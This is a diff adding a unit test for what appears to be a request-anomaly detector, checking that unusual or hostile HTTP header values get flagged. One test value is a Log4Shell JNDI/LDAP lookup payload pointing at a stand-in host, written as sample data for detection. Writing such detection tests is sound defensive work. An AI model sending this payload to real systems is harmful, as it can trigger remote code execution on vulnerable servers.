@@ -183,3 +183,19 @@ def test_a_frozen_templater_learns_nothing() -> None:
         t.template("s", f"/app/probe{i}.bak")
     assert t.template("s", "/app/login") == "/app/login" and t.generation == 0
     assert t.template("s", "/app/probe7.bak") == "/app/probe7.bak"
+
+
+def test_request_headers_are_analysed_like_the_user_agent() -> None:
+    a = RequestAnalyzer(learn_online=True)
+    base = (("accept", "application/json"), ("x-api-version", "2.1"))
+    evs = [ev("GET", "/v1/items", i=i)._replace(headers=base) for i in range(400)]
+    assert a.analyze_many(evs, ["/v1/items"] * 400) == [None] * 400
+    jndi = (("accept", "application/json"), ("x-api-version", "${jndi:ldap://x.example/a}"))
+    f = a.analyze(ev("GET", "/v1/items")._replace(headers=jndi), "/v1/items")
+    assert f is not None and f.kind == "attack_payload" and "log4shell" in f.attack_types
+    assert any("header:x-api-version" in r for r in f.reasons)
+    long = (("accept", "application/json"), ("x-api-version", "2." + "9" * 400))
+    f = a.analyze(ev("GET", "/v1/items")._replace(headers=long), "/v1/items")
+    assert f is not None and f.kind == "unusual_payload" and f.score >= 0.5
+    assert f.reasons[0].startswith("header x-api-version: length 402")
+    assert ("header", f.parts[0][1]) == f.parts[0]
